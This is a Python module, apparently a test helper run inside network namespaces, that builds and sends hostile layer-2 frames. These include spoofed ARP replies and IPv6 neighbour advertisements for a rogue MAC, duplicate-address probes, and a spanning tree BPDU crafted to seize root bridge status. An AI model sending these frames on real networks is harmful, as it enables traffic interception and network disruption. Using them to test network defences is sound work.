"""Ethernet frames as somebody who means harm would send them."""

from __future__ import annotations

import ipaddress
import socket
import struct

ROGUE_MAC = "020000000bad"


def ethernet(kind: int, payload: bytes, source: str = ROGUE_MAC) -> bytes:
    """Give a broadcast frame of an EtherType."""
    return bytes.fromhex("ff" * 6 + source.replace(":", "")) + struct.pack("!H", kind) + payload


def ipv4(source: str, ports: tuple[int, int]) -> bytes:
    """Give an empty UDP datagram to everybody."""
    udp = struct.pack("!HHHH", *ports, 8, 0)
    addresses = ipaddress.IPv4Address(source).packed + bytes([255] * 4)
    return struct.pack("!BBHHHBBH", 0x45, 0, 28, 0, 0, 64, 17, 0) + addresses + udp


def ipv6(header: int, payload: bytes, source: str = "fe80::bad") -> bytes:
    """Give a packet to every node of the link; `header` is the next header's number."""
    addresses = ipaddress.IPv6Address(source).packed + ipaddress.IPv6Address("ff02::1").packed
    return struct.pack("!IHBB", 0x60000000, len(payload), header, 255) + addresses + payload


def arp(claimed: str, hardware: int = 1, mac: str = ROGUE_MAC) -> bytes:
    """Give an ARP reply that claims an address for a card."""
    both = (bytes.fromhex(mac.replace(":", "")) + ipaddress.IPv4Address(claimed).packed) * 2
    return struct.pack("!HHBBH", hardware, 0x0800, 6, 4, 2) + both


def arp_probe(wanted: str, mac: str = ROGUE_MAC) -> bytes:
    """Give an ARP probe: does anybody have this address? (RFC 5227, 2.1.1)."""
    sender = bytes.fromhex(mac.replace(":", "")) + bytes(4)
    asked = bytes(6) + ipaddress.IPv4Address(wanted).packed
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + sender + asked


def neighbour(claimed: str, options: int = 1) -> bytes:
    """Give a neighbour advertisement's body (RFC 4861, 4.4) with so many target link addresses."""
    option = bytes.fromhex("0201" + ROGUE_MAC)
    said = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + ipaddress.IPv6Address(claimed).packed
    return said + option * options


def solicitation(wanted: str) -> bytes:
    """Give a neighbour solicitation's body, as duplicate detection sends it (RFC 4862, 5.4.2)."""
    return struct.pack("!BBHI", 135, 0, 0, 0) + ipaddress.IPv6Address(wanted).packed


def bridge_to_be_root() -> bytes:
    """Give a rapid spanning tree BPDU (IEEE 802.1D-2004, 9.3.3) that wins against every bridge."""
    bridge = struct.pack("!H", 0) + bytes.fromhex(ROGUE_MAC)
    times = struct.pack("!HHHH", 0, 20 << 8, 2 << 8, 15 << 8)
    body = struct.pack("!HBBB", 0, 2, 2, 0x3C) + bridge + struct.pack("!I", 0) + bridge
    said = bytes.fromhex("424203") + body + struct.pack("!H", 0x8001) + times + b"\0"
    header = bytes.fromhex("0180c2000000" + ROGUE_MAC) + struct.pack("!H", len(said))
    return header + said


def send(link: str, frame: bytes) -> None:
    """Send a frame over an interface of the namespace that this process stands in."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as channel:
        channel.bind((link, 0))
        channel.send(frame.ljust(60, b"\0"))
